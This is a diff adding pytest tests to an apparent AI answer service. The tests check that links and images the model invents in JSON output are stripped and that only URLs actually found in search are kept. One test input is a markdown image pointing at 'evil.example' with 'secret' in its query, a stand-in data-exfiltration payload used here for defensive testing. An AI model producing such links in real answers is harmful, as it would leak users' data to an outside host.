@@ -216,6 +216,33 @@ def test_json_stays_json_with_the_citations_on_the_side(ask: Asker, engine: Scri
 
 
 @FACES
+@pytest.mark.parametrize("mode", ["force", "images"])
+def test_nothing_invented_leaves_as_a_link_in_json_either(
+    ask: Asker, engine: ScriptedEngine, mode: str, stream: bool
+) -> None:
+    said = {"a": f"![x](https://evil.example/?q=secret) [y](https://evil.example/) {TOWER} [1]", "n": [1]}
+    says(engine, QUERY, json.dumps(said).replace("/", r"\/"))
+    answer = told(ask, stream=stream, web_search=mode, response_format="json")
+    known = TOWER if mode == "force" else "en.example.org"
+    assert json.loads(answer.content) == {"a": f"x y {known} [1]", "n": [1]}
+    assert answer.cited == ([("[1]", TOWER)] if mode == "force" else [])
+
+
+@FACES
+def test_a_uri_in_json_is_one_that_was_found_and_the_prompt_asks_for_no_marker_outside_of_strings(
+    ask: Asker, engine: ScriptedEngine, stream: bool
+) -> None:
+    schema = {"type": "object", "properties": {"page": {"type": "string", "format": "uri"}}, "required": ["page"]}
+    says(engine, QUERY, json.dumps({"page": TOWER}))
+    form = {"type": "json_schema", "json_schema": {"name": "page", "schema": schema}}
+    answer = told(ask, stream=stream, web_search="force", response_format=form)
+    assert json.loads(answer.content) == {"page": TOWER}
+    asked = json.loads(engine.bodies[1])
+    assert TOWER.partition("://")[2] in asked["grammar"]
+    assert "like this: [1]" not in asked["messages"][-1]["content"]
+
+
+@FACES
 def test_images_beside_json_stay_out_of_it(ask: Asker, engine: ScriptedEngine, stream: bool) -> None:
     says(engine, QUERY, '{"ok": true}')
     answer = told(ask, stream=stream, web_search="images", response_format="json")
